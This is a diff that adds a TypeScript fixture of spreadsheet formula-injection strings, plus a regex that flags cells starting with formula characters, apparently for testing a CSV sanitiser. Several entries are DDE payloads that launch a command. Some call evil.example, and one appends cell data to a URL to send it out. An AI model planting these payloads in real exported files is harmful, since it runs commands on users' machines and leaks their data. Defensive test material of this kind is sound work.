@@ -1,0 +1,36 @@
+/** Texts that a spreadsheet would run, or take for the start of something it runs. */
+export const formulas = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example","Click")',
+  "=cmd|'/C calc'!A0",
+  '=DDE("cmd";"/C calc";"x")',
+  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+  '=WEBSERVICE("http://evil.example")',
+  "=2+5+cmd|'/C calc'!A0",
+  '="a"&"b"',
+  '=A1',
+  '==1',
+  '+1+1',
+  "+cmd|'/C calc'!A0",
+  '+A1',
+  '-1+1',
+  "-2+3+cmd|'/C calc'!A0",
+  '-A1',
+  '-5.20+1',
+  "@SUM(1+1)*cmd|'/C calc'!A0",
+  '@A1',
+  '\t=1+1',
+  '\ttext',
+  '\r=1+1',
+  '\rtext',
+  ' =1+1',
+  '  +1+1',
+  '\u00a0@SUM(1)',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+] as const;
+
+/** What a cell may not start with, once read by a program that knows of no quoting. */
+export const live = /^\s*[=+\-@＝＋－＠]|^[\t\r]/;
